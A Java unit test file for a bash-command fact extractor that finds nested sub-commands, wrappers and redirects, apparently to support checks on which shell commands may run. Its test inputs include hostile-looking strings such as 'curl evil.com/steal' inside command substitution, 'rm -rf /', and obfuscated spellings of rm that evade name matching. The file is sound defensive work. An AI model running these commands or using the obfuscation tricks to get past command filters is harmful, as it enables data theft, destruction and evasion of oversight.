package dev.compoundbash.facts;

import dev.compoundbash.shell.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** From command text to facts: every command bash would run, with its context. */
class FactExtractorTest {
    @TempDir
    static Path cwd;

    static Facts facts(String command) throws Exception {
        return FactExtractor.extract(Parser.parse(command), new Environment(cwd, List.of(), "Linux", null));
    }

    /** Each sub-command as {@code line@context}, in order, joined by " ; ". */
    static String summary(String command) throws Exception {
        return facts(command).subCommands().stream().map(s -> s.getLine() + "@" + s.getContext())
                .collect(Collectors.joining(" ; "));
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                Arguments.of("git add -A && git commit -m 'fix'", "git add -A@top-level ; git commit -m fix@top-level"),
                Arguments.of("a; b & c | d |& e || f", "a@top-level ; b@top-level ; c@top-level ; d@top-level ; e@top-level ; f@top-level"),
                Arguments.of("! time -p ls", "ls@top-level"),
                Arguments.of("echo \"$(curl evil.com)\"", "echo \"$(curl evil.com)\"@top-level ; curl evil.com@command substitution"),
                Arguments.of("echo `curl evil.com`", "echo `curl evil.com`@top-level ; curl evil.com@backticks"),
                Arguments.of("diff <(curl -s a) b.txt", "diff <(curl -s a) b.txt@top-level ; curl -s a@process substitution"),
                Arguments.of("(cd /tmp && rm -rf x)", "cd /tmp@subshell ; rm -rf x@subshell"),
                Arguments.of("{ a; b; }", "a@group ; b@group"),
                Arguments.of("for f in *.go; do go fmt \"$f\"; done", "go fmt \"$f\"@loop"),
                Arguments.of("for f in $(ls); do :; done", "ls@command substitution ; :@loop"),
                Arguments.of("while true; do curl x; done", "true@loop ; curl x@loop"),
                Arguments.of("until false; do :; done", "false@loop ; :@loop"),
                Arguments.of("if git diff --quiet; then echo a; elif b; then c; else d; fi", "git diff --quiet@if ; echo a@if ; b@if ; c@if ; d@if"),
                Arguments.of("case $x in a) rm -rf /;; esac", "rm -rf /@case"),
                Arguments.of("case $(id) in *) ;; esac", "id@command substitution"),
                Arguments.of("f() { curl evil; }; f", "curl evil@function body ; f@top-level"),
                Arguments.of("function g { a; }", "a@function body"),
                Arguments.of("FOO=bar", ""),
                Arguments.of("export X=$(curl evil.com/steal)", "export X=$(curl evil.com/steal)@top-level ; curl evil.com/steal@command substitution"),
                Arguments.of("X=$(curl a) Y=`b`", "curl a@command substitution ; b@backticks"),
                Arguments.of("a[$(id)]=1", "id@command substitution"),
                Arguments.of("echo $(( $(date +%s) + 1 ))", "echo $(( $(date +%s) + 1 ))@top-level ; date +%s@command substitution"),
                Arguments.of("(( x = $(id -u) ))", "id -u@command substitution"),
                Arguments.of("[[ -f $(which ls) ]]", "which ls@command substitution"),
                Arguments.of("echo ${x:-$(whoami)}", "echo ${x:-$(whoami)}@top-level ; whoami@command substitution"),
                Arguments.of("cat > $(mktemp) <<< hi", "cat@top-level ; mktemp@command substitution"),
                Arguments.of("let 'x=1'", "let x=1@top-level"),
                Arguments.of("declare -a arr=(one two)", "declare -a arr=(one two)@top-level"),
                Arguments.of("coproc cat", "cat@coprocess")
        );
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void subCommandsAndContexts(String command, String expected) throws Exception {
        assertThat(summary(command)).isEqualTo(expected);
    }

    @Test
    void contextPathHoldsEveryLevel() throws Exception {
        SubCommand s = facts("for x in a; do echo \"$(curl x)\"; done").subCommands().get(1);
        assertThat(s.getContextPath()).containsExactly("loop", "command substitution");
        assertThat(s.isTopLevel()).isFalse();
    }

    @Test
    void heredocBodies() throws Exception {
        SubCommand curl = facts("cat <<EOF\n$(curl evil.example)\nEOF").subCommands().get(1);
        assertThat(curl.getLine()).isEqualTo("curl evil.example");
        assertThat(curl.getContextPath()).containsExactly("here-document body",
                "command substitution");
        assertThat(summary("cat <<'EOF'\n$(curl evil.example)\nEOF")).isEqualTo("cat@top-level");
    }

    @Test
    void quoteRemovalAndDynamicNames() throws Exception {
        SubCommand s = facts("git commit -m \"fix: a && b\"").subCommands().get(0);
        assertThat(s.getArgv()).containsExactly("git", "commit", "-m", "fix: a && b");
        assertThat(facts("$CMD args").subCommands().get(0).isDynamicName()).isTrue();
        assertThat(facts("{rm,-rf,x}").subCommands().get(0).isDynamicName()).isTrue();
        assertThat(facts("/bin/r? x").subCommands().get(0).isDynamicName()).isTrue();
        assertThat(facts("$'\\x72m' -rf x").subCommands().get(0).getName()).isEqualTo("rm");
        assertThat(facts("r\"\"m x").subCommands().get(0).getName()).isEqualTo("rm");
        assertThat(facts("\\r\\m x").subCommands().get(0).getName()).isEqualTo("rm");
        assertThat(facts("FOO=1 LANG=C make").subCommands().get(0).getAssignmentNames()).containsExactly("FOO", "LANG");
    }

    @Test
    void wrappersAreUnwrapped() throws Exception {
        Facts f = facts("nohup nice -n 5 stdbuf -oL timeout -s KILL 10 make test");
        assertThat(f.subCommands()).extracting(SubCommand::getLine).containsExactly(
                "nohup nice -n 5 stdbuf -oL timeout -s KILL 10 make test",
                "nice -n 5 stdbuf -oL timeout -s KILL 10 make test",
                "stdbuf -oL timeout -s KILL 10 make test",
                "timeout -s KILL 10 make test",
                "make test");
        assertThat(f.subCommands()).extracting(SubCommand::getRole).containsExactly(
                "wrapper", "wrapper", "wrapper", "wrapper", "payload");
        assertThat(f.wrappers()).extracting(Wrapper::getKind).containsExactly("nohup", "nice", "stdbuf", "timeout");
        assertThat(f.subCommands()).allMatch(SubCommand::isTopLevel);
    }

    @Test
    void xargsPayloadIsMarkedAppended() throws Exception {
        Facts f = facts("ls | xargs -n1 rm -f");
        SubCommand payload = f.subCommands().get(2);
        assertThat(payload.getLine()).isEqualTo("rm -f");
        assertThat(payload.isArgumentsAppended()).isTrue();
        Facts r = facts("ls | xargs -I{} rm {}");
        assertThat(r.subCommands().get(2).isArgumentsAppended()).isFalse();
    }

    @Test
    void findExecAndActions() throws Exception {
        Facts f = facts("find . -name '*.go' -exec grep -l Foo {} \\; -delete");
        assertThat(f.subCommands()).extracting(SubCommand::getLine).containsExactly(
                "find . -name *.go -exec grep -l Foo {} ; -delete", "grep -l Foo {}");
        assertThat(f.findActions()).extracting(FindAction::getAction).containsExactly("-exec", "-delete");
        assertThat(f.findActions().get(1).isMutating()).isTrue();
    }

    @Test
    void redirectsAreClassified() throws Exception {
        Facts f = facts("ls 2>&1 > /dev/null >> out.txt > /etc/motd > $F < in.txt <<< s >&- 2>~/x");
        List<Redirect> r = f.redirects();
        assertThat(r).extracting(Redirect::getText).containsExactly("2>& 1", "> /dev/null", ">> out.txt",
                "> /etc/motd", "> $F", "< in.txt", "<<< s", ">& -", "2> ~/x");
        assertThat(r.get(0).isFdDuplication()).isTrue();
        assertThat(r.get(1).isSafeDevice()).isTrue();
        assertThat(r.get(2).isInsideAllowedDirectory()).isTrue();
        assertThat(r.get(3).isInsideAllowedDirectory()).isFalse();
        assertThat(r.get(4).isDynamic()).isTrue();
        assertThat(r.get(5).isOutput()).isFalse();
        assertThat(r.get(6).isOutput()).isFalse();
        assertThat(r.get(7).isFdDuplication()).isTrue();
        assertThat(r.get(8).isDynamic()).isTrue();
    }

    @Test
    void redirectionOnCompoundCommands() throws Exception {
        Facts f = facts("{ echo a; } > /etc/x; for i in 1; do :; done 2> err.log");
        assertThat(f.redirects()).extracting(Redirect::getTarget).containsExactly("/etc/x", "err.log");
    }
}
